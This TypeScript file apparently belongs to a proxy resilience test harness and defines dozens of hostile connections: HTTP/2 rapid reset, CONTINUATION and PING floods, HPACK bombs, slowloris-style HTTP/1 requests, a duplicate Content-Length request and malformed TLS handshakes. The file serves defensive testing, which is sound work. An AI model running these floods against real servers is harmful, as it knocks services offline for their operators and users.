/**
 * What one hostile connection can do, each as a function over its socket. An attack never ends by itself: the proxy ends
 * it, or the harness does after some seconds.
 *
 * Where it comes from: `client` dials the pod from the network, `application` dials out of the pod, `server` is the
 * application that the inbound proxy dials.
 */
import type { Socket } from 'node:net'
import {
  block,
  data,
  frame,
  get,
  goaway,
  headers,
  hello,
  many,
  OK,
  odd,
  ping,
  post,
  rstStream,
  settings,
  settingsAck,
  unfinished,
  windowUpdate,
} from './frames.ts'

export type Origin = 'h2' | 'h1' | 'h2Bulk' | 'h1Bulk'
export type Side = 'client' | 'application' | 'server'

export interface Attack {
  readonly name: string
  readonly side: Side
  /** The port of the pod that is dialled. A server is dialled with the protocol that its first letters say. */
  readonly port: Origin | 'inbound'
  readonly run: (socket: Socket) => void
}

const INITIAL_WINDOW = 4
const HOST = 'Host: bench\r\n'
const HEAD = `POST / HTTP/1.1\r\n${HOST}`
const CHUNKED = `${HEAD}Transfer-Encoding: chunked\r\n\r\n`
const GET_HEAD = `GET / HTTP/1.1\r\n${HOST}\r\n`
const SMALL_PIECE_MS = 100

/** As fast as the connection takes it, for ever. `next` gives some kilobytes at a time. */
function flood(socket: Socket, next: (round: number) => Buffer | string): void {
  let round = 0
  // A turn of the event loop between writes: the end of the connection must be heard.
  const pump = (): void => {
    if (socket.destroyed || !socket.writable) return
    if (socket.write(next(round++))) setImmediate(pump)
    else socket.once('drain', () => setImmediate(pump))
  }
  pump()
}

/** One write per turn of the event loop, each a segment of its own. */
function floodInPieces(socket: Socket, next: (round: number) => Buffer | string): void {
  let round = 0
  const step = (): void => {
    if (socket.destroyed || !socket.writable) return
    socket.write(next(round++))
    if (socket.writableLength > 65_536) socket.once('drain', step)
    else setImmediate(step)
  }
  step()
}

function everyMs(socket: Socket, ms: number, next: () => Buffer | string): void {
  const timer = setInterval(() => socket.write(next()), ms)
  socket.on('close', () => clearInterval(timer))
}

/** Reads on and on, and drops it. */
function reading(run: (socket: Socket) => void): (socket: Socket) => void {
  return (socket) => {
    socket.resume()
    run(socket)
  }
}

function h2(name: string, run: (socket: Socket) => void, port: Origin = 'h2'): Attack {
  return {
    name: `h2 ${name}`,
    side: 'client',
    port,
    run: reading((socket) => {
      socket.write(hello())
      run(socket)
    }),
  }
}

function h1(name: string, run: (socket: Socket) => void, port: Origin = 'h1'): Attack {
  return { name: `h1 ${name}`, side: 'client', port, run: reading(run) }
}

const pings = many(200, () => ping())
const largeHead = (id: number): Buffer => {
  const value = 'v'.repeat(8_000)
  const fields = Array.from({ length: 12 }, () => ['x-large', value] as const)
  const bytes = block([[':method', 'GET'], [':scheme', 'http'], [':path', '/'], [':authority', 'bench'], ...fields])
  const pieces = [frame(1, 1, id, bytes.subarray(0, 16_000))]
  for (let at = 16_000; at < bytes.length; at += 16_000)
    pieces.push(frame(9, at + 16_000 >= bytes.length ? 4 : 0, id, bytes.subarray(at, at + 16_000)))
  return Buffer.concat(pieces)
}
/** A block that fills the table with one field of 4 KB and then names it 12,000 times. */
const bomb = (id: number): Buffer => {
  const value = Buffer.alloc(3_900, 'b')
  const insert = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xbd, 0x1d]), value])
  const pseudo = block([
    [':method', 'GET'],
    [':scheme', 'http'],
    [':path', '/'],
    [':authority', 'bench'],
  ])
  return frame(1, 5, id, Buffer.concat([pseudo, insert, Buffer.alloc(12_000, 0xbe)]))
}
/** A block of small fields, each put into the table. */
const churn = (id: number): Buffer => {
  const pseudo = block([
    [':method', 'GET'],
    [':scheme', 'http'],
    [':path', '/'],
    [':authority', 'bench'],
  ])
  const fields = many(200, (n) => Buffer.from([0x40, 2, 0x78, 97 + (n % 26), 2, 65 + (n % 26), 65 + (id % 26)]))
  return frame(1, 5, id, Buffer.concat([pseudo, fields]))
}

const FROM_CLIENTS: readonly Attack[] = [
  h2('PING', (socket) => flood(socket, () => pings)),
  h2('1,000 PING per second', (socket) => everyMs(socket, 10, () => pings.subarray(0, 170))),
  h2('SETTINGS', (socket) => flood(socket, () => many(200, () => settings()))),
  h2('SETTINGS that change the windows of 1,000 streams', (socket) => {
    socket.write(many(1_000, (n) => post(odd(n))))
    const change = settings(Array.from({ length: 32 }, (_, n) => [INITIAL_WINDOW, 65_535 + (n % 2)] as const))
    flood(socket, () => change)
  }),
  h2('empty DATA', (socket) => {
    socket.write(post(1))
    flood(socket, () => many(500, () => data(1, 0)))
  }),
  h2('PRIORITY', (socket) => flood(socket, () => many(500, (n) => frame(2, 0, odd(n), Buffer.alloc(5, 1))))),
  h2('frames of an unknown type', (socket) => flood(socket, () => many(500, () => frame(0xbb, 0, 0)))),
  h2('CONTINUATION', (socket) => {
    socket.write(unfinished(1))
    flood(socket, () => many(500, () => frame(9, 0, 1)))
  }),
  h2('a field block that never ends, slowly', (socket) => {
    socket.write(unfinished(1))
    everyMs(socket, 1_000, () => frame(9, 0, 1))
  }),
  h2('rapid reset', (socket) =>
    flood(socket, (round) =>
      many(100, (n) => Buffer.concat([get(odd(round * 100 + n)), rstStream(odd(round * 100 + n), 8)])),
    ),
  ),
  h2('resets provoked by WINDOW_UPDATE of 0', (socket) =>
    flood(socket, (round) =>
      many(100, (n) => Buffer.concat([post(odd(round * 100 + n)), windowUpdate(odd(round * 100 + n), 0)])),
    ),
  ),
  h2('malformed heads', (socket) =>
    flood(socket, (round) => many(100, (n) => headers(odd(round * 100 + n), [[':method', 'GET']]))),
  ),
  h2('heads of 96 KB', (socket) => flood(socket, (round) => largeHead(odd(round)))),
  h2('HPACK bombs', (socket) => flood(socket, (round) => bomb(odd(round)))),
  h2('HPACK table churn', (socket) =>
    flood(socket, (round) => Buffer.concat([churn(odd(round)), rstStream(odd(round), 8)])),
  ),
  h2('WINDOW_UPDATE of one byte', (socket) => {
    socket.write(post(1))
    flood(socket, () => many(500, () => windowUpdate(1, 1)))
  }),
  h2('a window beyond 2^31-1', (socket) => socket.write(many(3, () => windowUpdate(0, 0x7fff_ffff)))),
  h2('frames byte by byte', (socket) => {
    const bytes = ping()
    floodInPieces(socket, (round) => bytes.subarray(round % bytes.length, (round % bytes.length) + 1))
  }),
  h2('half a frame', (socket) => socket.write(ping().subarray(0, 12))),
  h2('5,000 streams that never end', (socket) => socket.write(many(5_000, (n) => post(odd(n))))),
  h2('requests without reading', (socket) => {
    socket.pause()
    flood(socket, (round) => many(100, (n) => get(odd(round * 100 + n))))
  }),
  h2('PING without reading', (socket) => {
    socket.pause()
    flood(socket, () => pings)
  }),
  h2(
    'a window of zero before 1,000 responses of 1 MB',
    (socket) => {
      socket.write(settings([[INITIAL_WINDOW, 0]]))
      socket.write(many(1_000, (n) => get(odd(n))))
    },
    'h2Bulk',
  ),
  h2(
    'a reader of one byte at a time',
    (socket) => {
      socket.write(settings([[INITIAL_WINDOW, 0]]))
      socket.write(get(1))
      floodInPieces(socket, () => windowUpdate(1, 1))
    },
    'h2Bulk',
  ),
  {
    name: 'h2 half a preface',
    side: 'client',
    port: 'h2',
    run: reading((socket) => socket.write('PRI * HTTP/2.0\r\n')),
  },

  h1('a head at one byte per 100 ms', (socket) => {
    socket.write(HEAD)
    everyMs(socket, SMALL_PIECE_MS, () => 'x')
  }),
  h1('a head byte by byte, fast', (socket) => {
    socket.write(HEAD)
    floodInPieces(socket, () => 'x')
  }),
  h1('a head without end', (socket) => {
    socket.write(HEAD)
    flood(socket, (round) => `x-field-${round}: ${'v'.repeat(1_000)}\r\n`)
  }),
  h1('content at one byte per 100 ms', (socket) => {
    socket.write(`${HEAD}Content-Length: 1000000\r\n\r\n`)
    everyMs(socket, SMALL_PIECE_MS, () => 'x')
  }),
  h1('content that never comes', (socket) => socket.write(`${HEAD}Content-Length: 1000000\r\n\r\n`)),
  h1('chunk extensions without end', (socket) => {
    socket.write(CHUNKED)
    flood(socket, () => `1;${'e'.repeat(250)}\r\nx\r\n`.repeat(50))
  }),
  h1('one chunk extension without end', (socket) => {
    socket.write(`${CHUNKED}1;`)
    flood(socket, () => 'e'.repeat(10_000))
  }),
  h1('trailers without end', (socket) => {
    socket.write(`${CHUNKED}0\r\n`)
    flood(socket, (round) => `x-trailer-${round}: ${'v'.repeat(1_000)}\r\n`)
  }),
  h1('a pipeline without reading', (socket) => {
    socket.pause()
    flood(socket, () => GET_HEAD.repeat(200))
  }),
  h1(
    'a response of 1 MB without reading',
    (socket) => {
      socket.pause()
      socket.write(GET_HEAD)
    },
    'h1Bulk',
  ),
  h1('two lengths', (socket) => socket.write(`${HEAD}Content-Length: 1\r\nContent-Length: 2\r\n\r\n`)),
  h1('a client that never sends', () => {}),

  {
    name: 'tls half a handshake',
    side: 'client',
    port: 'inbound',
    run: reading((socket) => socket.write(tlsRecord(500, 100))),
  },
  {
    name: 'tls a ClientHello without end',
    side: 'client',
    port: 'h2',
    run: reading((socket) => flood(socket, () => tlsRecord(16_000, 16_000))),
  },
  {
    name: 'tls a ClientHello byte by byte',
    side: 'client',
    port: 'h2',
    run: reading((socket) => {
      const bytes = tlsRecord(10_000, 10_000)
      floodInPieces(socket, (round) => bytes.subarray(round, round + 1))
    }),
  },
  {
    name: 'tls bytes that are no TLS',
    side: 'client',
    port: 'inbound',
    run: reading((socket) => socket.write('GET / HTTP/1.1\r\n\r\n')),
  },
]

/** A handshake record of `length` bytes that says it holds a ClientHello, of which `sent` are sent. */
function tlsRecord(length: number, sent: number): Buffer {
  const record = Buffer.alloc(5 + sent, 7)
  record.writeUInt8(22, 0)
  record.writeUInt16BE(0x0301, 1)
  record.writeUInt16BE(length, 3)
  record.writeUInt8(1, 5)
  record.writeUIntBE(length - 4, 6, 3)
  return record
}

const FROM_APPLICATIONS: readonly Attack[] = FROM_CLIENTS.filter(({ name }) =>
  [
    'h2 PING',
    'h2 rapid reset',
    'h2 CONTINUATION',
    'h2 a window of zero before 1,000 responses of 1 MB',
    'h1 a head byte by byte, fast',
    'h1 a pipeline without reading',
  ].includes(name),
).map((attack) => ({ ...attack, side: 'application' as const }))

/** Its first bytes answer the request that the inbound proxy has sent. */
const FROM_SERVERS: readonly Attack[] = [
  {
    name: 'h1 informational responses without end',
    side: 'server',
    port: 'h1',
    run: reading((socket) => flood(socket, () => 'HTTP/1.1 103 Early Hints\r\nx: y\r\n\r\n'.repeat(100))),
  },
  {
    name: 'h1 a response head without end',
    side: 'server',
    port: 'h1',
    run: reading((socket) => {
      socket.write('HTTP/1.1 200 OK\r\n')
      flood(socket, (round) => `x-field-${round}: ${'v'.repeat(1_000)}\r\n`)
    }),
  },
  {
    name: 'h1 a response head byte by byte',
    side: 'server',
    port: 'h1',
    run: reading((socket) => {
      socket.write('HTTP/1.1 200 OK\r\nx: ')
      floodInPieces(socket, () => 'y')
    }),
  },
  {
    name: 'h1 bytes behind a response',
    side: 'server',
    port: 'h1',
    run: reading((socket) => flood(socket, () => 'HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n'.repeat(100))),
  },
  {
    name: 'h2 informational responses without end',
    side: 'server',
    port: 'h2',
    run: reading((socket) => {
      socket.write(Buffer.concat([settings(), settingsAck]))
      flood(socket, () => many(100, () => headers(1, [[':status', '103']], 'more')))
    }),
  },
  {
    name: 'h2 PING of a server',
    side: 'server',
    port: 'h2',
    run: reading((socket) => {
      socket.write(settings())
      flood(socket, () => pings)
    }),
  },
  {
    name: 'h2 SETTINGS of a server',
    side: 'server',
    port: 'h2',
    run: reading((socket) => flood(socket, () => many(200, () => settings([[INITIAL_WINDOW, 65_535]])))),
  },
  {
    name: 'h2 GOAWAY again and again',
    side: 'server',
    port: 'h2',
    run: reading((socket) => {
      socket.write(settings())
      flood(socket, () => many(200, () => goaway(1, 0)))
    }),
  },
  {
    name: 'h2 responses nobody asked for',
    side: 'server',
    port: 'h2',
    run: reading((socket) => {
      socket.write(settings())
      flood(socket, (round) => headers(odd(round + 10), OK))
    }),
  },
]

export const ATTACKS: readonly Attack[] = [...FROM_CLIENTS, ...FROM_APPLICATIONS, ...FROM_SERVERS]

/** The name under which an attack is asked for. */
export function keyOf({ side, name }: Attack): string {
  return `${side}: ${name}`
}
